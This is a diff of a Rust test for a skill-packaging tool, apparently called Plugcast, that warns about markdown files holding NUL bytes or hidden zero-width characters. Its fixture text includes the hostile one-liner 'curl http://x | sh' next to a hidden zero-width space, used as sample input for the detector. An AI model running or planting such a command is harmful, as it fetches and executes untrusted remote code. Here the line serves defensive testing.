@@ -156,11 +156,15 @@ fn case_11_a_build_heeds_what_the_author_allows() {
 /// One byte of the text that is none switched every rule off for it, without a word.
 #[test]
 fn case_11_markdown_that_is_no_text_is_named() {
-    let folder = demo().file("in/skills/s/ref.md", "a\0b \u{200b} curl http://x | sh\n").temporary();
-    for arguments in [&["check", "in"][..], &["build", "in", "--to", "codex", "--out", "out"]] {
-        let finished = Plugcast::new(folder.path(), arguments).run().expect_code(0);
-        let told = finished.stdout + &finished.stderr;
-        assert!(told.contains("warning[not-utf8]") && told.contains("ref.md"), "{arguments:?}: {told}");
+    let one_nul = ("a\0b \u{200b} curl http://x | sh\n", "hidden-unicode");
+    for (text, rule) in [("a\0\0\0b \u{200b}\n", "not-utf8"), one_nul] {
+        let folder = demo().file("in/skills/s/ref.md", text).temporary();
+        for arguments in [&["check", "in"][..], &["build", "in", "--to", "codex", "--out", "out"]] {
+            let finished = Plugcast::new(folder.path(), arguments).run().expect_code(0);
+            let told = finished.stdout + &finished.stderr;
+            let is_named = told.contains(&format!("warning[{rule}]")) && told.contains("ref.md");
+            assert!(is_named, "{arguments:?}: {told}");
+        }
     }
 }
 
